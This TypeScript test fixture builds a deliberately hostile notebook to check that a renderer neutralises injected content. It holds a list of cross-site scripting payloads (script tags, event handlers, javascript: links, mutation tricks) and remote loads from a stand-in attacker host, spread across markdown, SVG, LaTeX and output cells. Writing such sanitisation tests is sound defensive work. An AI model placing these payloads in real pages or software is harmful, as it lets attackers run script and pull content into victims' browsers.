/** A notebook that tries to run, load or restyle something in every way that an output can carry. */
import type { NotebookDocument } from "../../lib/report/notebook_document.ts";
import { code, data, markdown, notebookOf, sampleFigure } from "./sample_notebook.ts";

const RUN = "window.pwned=true";
const ELSEWHERE = "https://attacker.example/";

const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<a href="javascript:${RUN}" id="trap">a harmless link</a>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<img src="${ELSEWHERE}pixel.png">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<style>body{display:none}@import url(${ELSEWHERE}x.css)</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}x.css">`,
  `<form action="${ELSEWHERE}"><input autofocus onfocus="${RUN}"></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}x.png)">cover</p>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<video src="${ELSEWHERE}x.mp4" onerror="${RUN}"></video>`,
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
  `width="640" height="300" viewBox="0 0 640 300" onload="${RUN}"><script>${RUN}</script>` +
  `<style>@import url(${ELSEWHERE}x.css);body{display:none}</style>` +
  `<a xlink:href="javascript:${RUN}"><text x="10" y="20">click</text></a>` +
  `<image href="${ELSEWHERE}x.png" width="10" height="10"/><use href="${ELSEWHERE}x.svg#a"/>` +
  `<rect width="5" height="5" fill="url(${ELSEWHERE}x.svg#b)"/>` +
  `<animate attributeName="href" values="javascript:${RUN}"/>` +
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject></svg>`;

/** The hostile notebook's JSON value. */
export const HOSTILE: NotebookDocument = notebookOf(
  markdown(
    `# A hostile notebook <img src=x onerror="${RUN}">\n\nIts answer. <script>${RUN}</script>`,
  ),
  ...PAYLOADS.map((payload) => markdown(`Before\n\n${payload}\n\nAfter`)),
  ...PAYLOADS.map((payload) =>
    code("", [data({ "text/html": `<p>Before</p>${payload}<p>After</p>` })])
  ),
  markdown(
    `[link](javascript:${RUN}) [data](data:text/html,<script>${RUN}</script>) ` +
      `![image](${ELSEWHERE}x.png) ![svg](data:image/svg+xml,<svg/onload=${RUN}>)`,
  ),
  markdown(
    `$\\href{javascript:${RUN}}{x}$ $\\includegraphics{${ELSEWHERE}x.png}$ $\\htmlStyle{color:red}{x}$`,
  ),
  code(`const text = "</code></pre></details><script>${RUN}</script>";`, [
    { output_type: "stream", name: "stdout", text: [`</pre><script>${RUN}</script>\n`] },
    {
      output_type: "error",
      ename: `<script>${RUN}</script>`,
      evalue: "x",
      traceback: [`\u001b[31m<script>${RUN}</script>\u001b[0m`],
    },
    data({ "image/svg+xml": SVG, "text/plain": `"><script>${RUN}</script>` }),
    data({ "image/jpeg": `"><script>${RUN}</script>` }),
    data({ "text/latex": `$\\href{javascript:${RUN}}{x}$` }),
    data({ "application/javascript": RUN, "text/plain": "script" }),
    sampleFigure({
      id: '"><script>',
      title: `<script>${RUN}</script>`,
      alt: `"><script>${RUN}</script>`,
      csv: `a,"<script>${RUN}</script>"\n1,2\n`,
      svg: SVG,
    }),
  ]),
);
